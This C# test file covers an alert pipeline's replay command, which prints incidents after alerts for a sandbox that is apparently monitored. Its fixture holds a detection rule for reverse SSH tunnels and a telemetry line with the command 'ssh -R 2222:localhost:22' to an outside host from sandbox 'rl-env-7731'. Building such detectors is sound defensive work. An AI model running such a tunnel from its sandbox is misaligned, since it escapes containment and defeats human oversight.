using System.Text.Json;
using AlertPipeline.Cli.Commands;
using static AlertPipeline.Cli.Tests.Commands.HandMadeIncidents;

namespace AlertPipeline.Cli.Tests.Commands;

/// <summary>
/// <c>replay</c> prints the incidents its alerts joined after the alerts. Until incident tracking is composed nothing
/// creates them, so the store is seeded by hand with an incident holding the alert the replay raises.
/// </summary>
public sealed class ReplayIncidentsTests : IDisposable
{
    private readonly string _dir = Directory.CreateTempSubdirectory("alertpipe-replay-incidents-").FullName;

    public void Dispose() => Directory.Delete(_dir, recursive: true);

    private (string Telemetry, string Rules) Files()
    {
        Directory.CreateDirectory(Path.Combine(_dir, "rules", "default"));
        File.WriteAllText(Path.Combine(_dir, "rules", "default", "tunnel.yml"), """
            title: Reverse SSH tunnel from a sandbox
            id: 0b6f1e0a-6a55-4f0e-9a0e-3d1b1c2f0a01
            status: test
            level: high
            tags:
              - attack.t1572
            logsource:
              product: linux
              category: process_creation
            detection:
              selection:
                process.command_line|contains: 'ssh -R'
              condition: selection
            """);
        var telemetry = Path.Combine(_dir, "t.jsonl");
        File.WriteAllText(telemetry, """{"@timestamp":"2025-11-14T03:12:41.020Z","event":{"category":"process","type":"start"},"sandbox":{"id":"rl-env-7731"},"process":{"command_line":"ssh -R 2222:localhost:22 tunnel@203.0.113.66","pid":4242}}""");
        return (telemetry, Path.Combine(_dir, "rules"));
    }

    private static async Task<CliRun> ReplayAsync(Core.Respond.Incidents.IIncidentStore store, params string[] args)
    {
        var stdout = new StringWriter();
        var stderr = new StringWriter();
        var code = await new ReplayCommand(stdout, stderr, incidentStore: store).RunAsync(args, CancellationToken.None);
        return new CliRun(code, stdout.ToString(), stderr.ToString());
    }

    private async Task<(string Telemetry, string Rules, Core.Respond.Incidents.Incident Incident, Core.Respond.Incidents.InMemoryIncidentStore Store)> SeededAsync()
    {
        var (telemetry, rules) = Files();
        var first = await CliRun.RunAsync("replay", telemetry, "--rules", rules, "--output", "json");
        var alertId = JsonDocument.Parse(Assert.Single(ReplayOutput.AlertLines(first.Stdout))).RootElement.GetProperty("alertId").GetString()!;

        // Sequence 9 and evidence long before the replay: a tracker composed later opens its own incident beside it.
        var incident = Rome(sequence: 9, start: T0.AddYears(-1));
        incident.AlertIds = [alertId];
        return (telemetry, rules, incident, await StoreAsync(incident));
    }

    [Fact]
    public async Task Json_output_prints_the_incident_line_after_the_alert_lines()
    {
        var (telemetry, rules, incident, store) = await SeededAsync();

        var run = await ReplayAsync(store, telemetry, "--rules", rules, "--output", "json");

        Assert.Equal(0, run.ExitCode);
        var lines = run.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        var alertLines = ReplayOutput.AlertLines(run.Stdout);
        Assert.Equal(alertLines, lines.Take(alertLines.Count));
        var incidentLines = ReplayOutput.IncidentLines(run.Stdout).Select(l => JsonDocument.Parse(l).RootElement).ToList();
        var seeded = Assert.Single(incidentLines, l => l.GetProperty("incidentId").GetString() == incident.IncidentId);
        Assert.Equal("rl-env-7731", seeded.GetProperty("sandboxId").GetString());
        Assert.Equal(5, seeded.GetProperty("timeline").GetArrayLength());
        Assert.Contains("incidents: ", run.Stderr, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Table_output_prints_the_story_after_the_alert_table_and_before_the_previews()
    {
        var (telemetry, rules, incident, store) = await SeededAsync();

        var run = await ReplayAsync(store, telemetry, "--rules", rules);

        Assert.Equal(0, run.ExitCode);
        var alertRow = run.Stdout.IndexOf("Reverse SSH tunnel from a sandbox", StringComparison.Ordinal);
        var story = run.Stdout.IndexOf($"Incident {incident.IncidentId}  sandbox rl-env-7731", StringComparison.Ordinal);
        var previews = run.Stdout.IndexOf("Would send", StringComparison.Ordinal);
        Assert.True(alertRow >= 0 && story > alertRow && previews > story, run.Stdout);
        Assert.Contains("  03:12:40.265Z  tool_call    bash call-17", run.Stdout, StringComparison.Ordinal);
    }
}
